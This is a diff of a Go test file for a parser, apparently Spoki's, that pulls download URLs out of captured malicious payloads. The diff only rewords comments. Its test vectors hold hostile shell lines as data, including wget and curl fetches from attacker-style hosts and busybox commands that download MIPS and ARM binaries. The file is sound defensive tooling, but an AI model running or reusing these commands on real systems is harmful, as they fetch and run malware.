@@ -5,7 +5,7 @@ import (
 	"testing"
 )
 
-// The vectors: first one per rule of spoki-eval §3.2 (clean_pl, detection,
+// The vectors: first one per rule of Spoki's clean (clean_pl, detection,
 // the piece parser and its argparse semantics, with the original's bugs
 // fixed as the package doc says), then the added forms. want lists the
 // downloads as `spoki urls` prints them.
@@ -14,7 +14,7 @@ var vectors = []struct {
 	payload string
 	want    []string
 }{
-	// §3.2 clean_pl and detection.
+	// clean's clean_pl and detection.
 	{"plain wget", "wget http://1.2.3.4/x.sh", []string{"wget|http://1.2.3.4/x.sh|1.2.3.4|80|x.sh"}},
 	{"example telescope payload", "wget http://141.22.28.35/evil", []string{"wget|http://141.22.28.35/evil|141.22.28.35|80|evil"}},
 	{"https stays https", "wget https://evil.example.com/a", []string{"wget|https://evil.example.com/a|evil.example.com|443|a"}},
@@ -38,7 +38,7 @@ var vectors = []struct {
 	{"wget and curl", "wget http://1.2.3.4/a || curl http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a", "curl|http://1.2.3.4/a|1.2.3.4|80|a"}},
 	{"duplicate reported once", "wget http://1.2.3.4/a; wget http://1.2.3.4/a", []string{"wget|http://1.2.3.4/a|1.2.3.4|80|a"}},
 	{"scheme-less", "wget 1.2.3.4/x.sh", []string{"wget|http://1.2.3.4/x.sh|1.2.3.4|80|x.sh"}},
-	// §3.2 piece parser: argparse semantics.
+	// clean's piece parser: argparse semantics.
 	{"wget ghost local remote", "/bin/busybox wget -g 45.14.224.220 -l /tmp/skere -r /mips", []string{"wget|http://45.14.224.220/mips|45.14.224.220|80|mips"}},
 	{"wget --ghost= and path join", "wget --ghost=1.2.3.4 -r bins/arm", []string{"wget|http://1.2.3.4/bins/arm|1.2.3.4|80|arm"}},
 	{"long option prefix", "wget --gh 1.2.3.4 -r x", []string{"wget|http://1.2.3.4/x|1.2.3.4|80|x"}},
